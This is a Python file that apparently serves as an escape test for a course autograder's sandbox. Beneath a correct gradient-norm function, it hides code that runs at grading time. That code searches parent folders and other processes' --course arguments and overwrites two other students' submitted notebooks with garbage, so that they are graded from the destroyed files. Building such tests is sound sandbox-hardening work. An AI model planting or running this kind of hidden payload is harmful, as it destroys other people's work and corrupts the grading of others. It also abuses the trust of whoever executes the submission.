# Escape: overwrite_other_student. While it is graded, this submission overwrites other students'
# submitted notebooks with garbage: <course>/submitted/<student>/01_gradients/01_gradients.ipynb
# of the honest students aaa_victim and zzz_honest, at the path relative to its working folder
# (../../../submitted/...), in every folder above the working folder, and in the course named by
# the --course argument of the processes it can see.  course.py grades the students in the order
# of their names (sorted), and "aa_overwrite_other_student" sorts before "aaa_victim": graded one
# at a time, the victim is graded after this submission, from the overwritten file.
# Without the sandbox (tests/escapes/run.py), the line marked "[unsafe run only]" is switched
# on: it keeps the escape to the folders above its working folder, so that other grading runs
# on the same machine are not hit.
# The answer itself is correct and scores full marks.
def global_grad_norm(parameters, norm_type=2.0):
    if isinstance(parameters, torch.Tensor):
        parameters = [parameters]
    norms = []
    for p in parameters:
        if p.grad is None:
            continue
        g = p.grad.detach()
        if norm_type == math.inf:
            norms.append(g.abs().max() if g.numel() else torch.tensor(0.0))
        else:
            norms.append(g.pow(2).sum().sqrt())
    if not norms:
        return torch.tensor(0.0)
    stacked = torch.stack(norms)
    return stacked.max() if norm_type == math.inf else stacked.pow(2).sum().sqrt()


import glob as _glob
import os as _os

_VICTIMS = ("aaa_victim", "zzz_honest")
_GARBAGE = b"garbage written over this notebook by aa_overwrite_other_student\n"
_roots = ["../../.."]
_d = _os.getcwd()
while True:
    _roots.append(_d)
    if _d == "/":
        break
    _d = _os.path.dirname(_d)
for _cmd in _glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(_cmd, "rb") as _f:
            _args = _f.read().split(b"\0")
    except OSError:
        continue
    _roots += [_args[i + 1].decode(errors="replace") for i, a in enumerate(_args[:-1]) if a == b"--course"]
_done = []
# [unsafe run only] _roots = [r for r in _roots if (_os.getcwd() + "/").startswith(_os.path.realpath(r).rstrip("/") + "/")]
for _root in dict.fromkeys(_os.path.realpath(r) for r in _roots):
    for _victim in _VICTIMS:
        _path = _os.path.join(_root, "submitted", _victim, "01_gradients", "01_gradients.ipynb")
        if not _os.path.exists(_path):
            continue
        try:
            with open(_path, "r+b") as _f:
                _f.write(_GARBAGE)
                _f.truncate()
            _done.append(_path)
            print("overwrote", _path)
        except OSError as exc:
            print("cannot overwrite", _path, type(exc).__name__)
print(f"escape overwrite_other_student: done, {len(_done)} notebook(s) overwritten")
